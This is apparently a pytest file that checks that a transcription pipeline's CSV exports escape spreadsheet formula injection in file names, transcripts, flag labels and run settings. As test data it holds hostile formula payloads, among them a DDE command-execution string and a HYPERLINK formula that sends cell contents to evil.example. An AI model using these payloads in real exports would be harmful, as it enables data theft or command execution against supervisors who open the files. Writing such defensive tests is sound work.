"""Spreadsheet formula injection (issue 14, point 4): no CSV bwv writes holds a formula.

Anyone who can put a file in the inbox chooses its name, and a supervisor opens the
CSVs in a spreadsheet. A store is filled with hostile names, reasons, transcript text,
flag labels and run settings; every command that writes CSV runs over it, and every cell
of every file is checked. A new CSV writer that this test does not run fails it.
"""

from __future__ import annotations

import csv
import hashlib
import re
from datetime import UTC, date, datetime
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from sqlalchemy import update

from conftest import ROOT
from pipeline import clock
from pipeline.cli import cli
from pipeline.flagging.windows import group_flags
from pipeline.nightly.report import COLUMNS
from pipeline.records import AudioStream, Flag, MediaProbe, Segment, Transcription, Word
from pipeline.store import Store, open_store
from pipeline.store import schema as db
from pipeline.store.exports import FORMULA_STARTS, safe_cell

DAY = date(2026, 11, 27)
NOON = datetime(2026, 11, 27, 12, tzinfo=UTC)
#: File names that a spreadsheet reads as formulas (the issue's four, a tab and a return).
NAMES = ("=2+3.mp4", "+cmd|' calc'!A0.mp4", "@SUM(1+1).mp4", "-HYP.mp4", "\tTAB.mp4", "\rCR.mp4")
#: A return inside a name: written unquoted, a spreadsheet would start a row at it.
SPLIT = "night\r=1+1.mp4"
#: Labels and text from outside: transcripts, flag fields, quarantine reasons, run settings.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'

#: The modules that write CSV (through pipeline.store.exports.write_csv), and how this test
#: runs each. A writer added anywhere else fails test_every_csv_writer_is_run_here.
WRITERS = {"pipeline/cli/batch.py": "bwv export KIND --format csv",
           "pipeline/nightly/report.py": "bwv report, and bwv report --teams (through frame_csv)"}
#: Columns that carry outside text, per file: each must hold an escaped hostile value.
HOSTILE_COLUMNS = {
    "export flags": ("source", "category", "family", "rubric", "text", "context", "speaker",
                     "pattern"),
    "export transcripts": ("source", "text"),
    "export media": ("source", "reason"),
    "files.csv": ("name", "reason"),
    "flags_by_category.csv": ("category", "family"),
    "quarantine_reasons.csv": ("reason",),
    "runs.csv": ("executor", "device", "model"),
    "teams.csv": ("team",),
}
#: Files whose rows may all be left out here (the team picture's categories: the hostile
#: flags are in no practice category); their cells are still checked for formulas.
MAYBE_EMPTY = {"team_categories.csv"}
#: Report files with nothing from outside in them.
INSIDE_ONLY = {"summary.csv", "review_items.csv", "audit_head.csv"}


@pytest.mark.parametrize("value,cell", [
    ("=2+3.mp4", "'=2+3.mp4"),
    ("+cmd|' calc'!A0.mp4", "'+cmd|' calc'!A0.mp4"),
    ("@SUM(1+1).mp4", "'@SUM(1+1).mp4"),
    ("-HYP.mp4", "'-HYP.mp4"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-3.5", "'-3.5"),  # text that looks like a number is still someone else's text
    ("kitchen = 2.mp4", "kitchen = 2.mp4"),
    (" =1+1", " =1+1"),
    ("", ""),
    (-3.5, -3.5),  # a number bwv wrote stays a number
    (-2, -2),
    (None, None),
    (True, True),
    (["=1+1"], '["=1+1"]'),
    ({"word": "@x"}, '{"word": "@x"}'),
])
def test_safe_cell(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def _hostile(i: int) -> str:
    return FORMULA_STARTS[i % len(FORMULA_STARTS)] + f"{i} " + FORMULA


@pytest.fixture()
def hostile_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Store:
    """A day of work on files with hostile names, through the store's own API."""
    monkeypatch.setattr(clock, "now", lambda: NOON)
    store = open_store(f"sqlite:///{tmp_path / 'db.sqlite3'}")
    run = store.start_run(inbox="/inbox", executor=_hostile(0), workers=2, device=_hostile(1),
                          model=_hostile(2))
    for i, name in enumerate((*NAMES, SPLIT)):
        sha = hashlib.sha256(name.encode()).hexdigest()
        media_id, _ = store.add_original(sha, size=1000, store_path=f"store/{sha}", inbox="/inbox",
                                         name=name, mtime_ns=1)
        store.add_original(sha, size=1000, store_path=f"store/{sha}", inbox="/inbox",
                           name=f"@copy of {name}", mtime_ns=2)
        store.set_probe(media_id, MediaProbe("mov,mp4", 60.0, True, 320, 240,
                                             (AudioStream(0, "aac", 1, 48000),)))
        store.begin_stage(media_id, "extract", run_id=run)
        if i == len(NAMES):
            store.quarantine(media_id, _hostile(i))
            continue
        store.set_audio(media_id, audio_path=f"derived/{sha}.wav", track=0)
        store.begin_stage(media_id, "transcribe", run_id=run)
        words = (Word(1.0, 1.5, f" {_hostile(i)}", 0.9), Word(1.5, 2.0, " -1", 0.9))
        seg = Segment(1.0, 2.0, "".join(w.word for w in words).strip(), words)
        store.save_transcript(media_id, Transcription((seg,), "en", 60.0, 1.0), model="tiny.en",
                              model_sha256="0" * 64, settings={})
        store.begin_stage(media_id, "flag", run_id=run)
        flags = [Flag(_hostile(i), _hostile(i + 1), 1.0, 2.0, _hostile(i + 2), _hostile(i + 3),
                      _hostile(i + 4), _hostile(i + 5), 3, speaker=_hostile(i + 6))]
        store.save_flags(media_id, flags, group_flags(flags, duration_s=60.0))
    # The six files are one team's (a hostile name), six officers', reviewed: the team picture.
    store.put_metadata([{"sha256": hashlib.sha256(name.encode()).hexdigest(), "team": "=HYP team",
                         "officer_id": f"45{i}", "source": f"m.csv:{i}"}
                        for i, name in enumerate(NAMES)], actor="test", manifest="m.csv")
    with store.session() as s:
        s.execute(update(db.ReviewItem).values(status="reviewed", reviewed_at=NOON))
    store.record_unreadable("/inbox", "=link.mp4", "@symlink refused")
    store.finish_run(run, files=len(NAMES) + 1, done=len(NAMES), quarantined=1, audio_s=360.0,
                     elapsed_s=30.0)
    return store


def _commands(group: click.Group, prefix: tuple[str, ...] = ()):
    for name, cmd in group.commands.items():
        if isinstance(cmd, click.Group):
            yield from _commands(cmd, (*prefix, name))
        else:
            yield (*prefix, name), cmd


def _csv_exports() -> list[tuple[str, ...]]:
    """Every command with a CSV ``--format``."""
    return [path for path, cmd in _commands(cli)
            if any("--format" in p.opts and isinstance(p.type, click.Choice) and "csv" in p.type.choices
                   for p in cmd.params)]


def _lines(path: Path) -> list[list[str]]:
    """The file as a spreadsheet splits it: a row ends at CR, LF or CRLF outside quotes."""
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _cells(path: Path) -> list[dict[str, str]]:
    header, *rows = _lines(path)
    return [dict(zip(header, row, strict=True)) for row in rows]


def _is_number(cell: str) -> bool:
    """A number as bwv writes one (``float`` would also take " 3" and "\t3")."""
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?(e[-+]?[0-9]+)?", cell) is not None


def test_no_csv_bwv_writes_holds_a_formula(hostile_store: Store, tmp_path: Path) -> None:
    base = ["--home", str(tmp_path / "home"), "--db", hostile_store.url]
    written: dict[str, Path] = {}
    exports = _csv_exports()
    assert {" ".join(p) for p in exports} >= {"export flags", "export transcripts", "export media"}
    for path in exports:
        out = tmp_path / f"{'-'.join(path)}.csv"
        result = CliRunner().invoke(cli, [*base, *path, "--format", "csv", "-o", str(out)])
        assert result.exit_code == 0, result.output
        written[" ".join(path)] = out
    result = CliRunner().invoke(cli, [*base, "report", "--date", DAY.isoformat(),
                                      "-o", str(tmp_path / "report")])
    assert result.exit_code == 0, result.output
    written |= {f"{key}.csv": tmp_path / "report" / f"{key}.csv" for key in COLUMNS}
    result = CliRunner().invoke(cli, [*base, "report", "--teams", "--date", DAY.isoformat(),
                                      "-o", str(tmp_path / "teams")])
    assert result.exit_code == 0, result.output
    written |= {p.name: p for p in (tmp_path / "teams").glob("*.csv")}
    # A new CSV must be listed above: with the columns that carry outside text, or as having none.
    assert set(HOSTILE_COLUMNS) <= set(written) <= set(HOSTILE_COLUMNS) | INSIDE_ONLY | MAYBE_EMPTY

    formulas = [(what, cell) for what, path in written.items() for line in _lines(path)
                for cell in line if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert formulas == []
    # Every row whole, and the hostile text in every column that carries outside text, escaped.
    unescaped = [(what, column) for what, path in written.items()
                 for column in HOSTILE_COLUMNS.get(what, ())
                 if not any(row[column].startswith("'") for row in _cells(path))]
    assert unescaped == []

    media = {row["source"]: row for row in _cells(written["export media"])}
    assert set(media) == {"'" + name for name in NAMES} | {"'=link.mp4", SPLIT}
    assert media[SPLIT]["state"] == "quarantined" and media[SPLIT]["reason"].startswith("'")
    assert media["'=link.mp4"]["reason"] == "'@symlink refused"
    assert all(name.startswith("[") for name in (row["names"] for row in media.values()))
    files = {row["name"] for row in _cells(written["files.csv"])}
    assert files == set(media)
    # Numbers stay numbers: times, durations and counts are not escaped.
    for row in _cells(written["export flags"]):
        assert float(row["start"]) == 1.0 and row["severity"] == "3"
    [summary] = _cells(written["summary.csv"])
    assert summary["files_seen"] == str(len(NAMES) + 2)


def test_every_csv_writer_is_run_here() -> None:
    """CSV is written only through write_csv, only by the modules this test runs."""
    sources = [p for folder in ("pipeline", "reviewers", "scripts") for p in (ROOT / folder).rglob("*.py")]
    assert len(sources) > 50
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bfrom csv import\b|\.to_csv\(|\.writerows?\(")
    calls = re.compile(r"\bwrite_csv\(")
    exports = ROOT / "pipeline" / "store" / "exports.py"
    bypassing = [str(p.relative_to(ROOT)) for p in sources
                 if p != exports and raw.search(p.read_text(encoding="utf-8"))]
    assert bypassing == [], "write CSV through pipeline.store.exports.write_csv"
    writers = {p.relative_to(ROOT).as_posix() for p in sources
               if p != exports and calls.search(p.read_text(encoding="utf-8"))}
    assert writers == set(WRITERS), "run the new CSV writer in test_no_csv_bwv_writes_holds_a_formula"
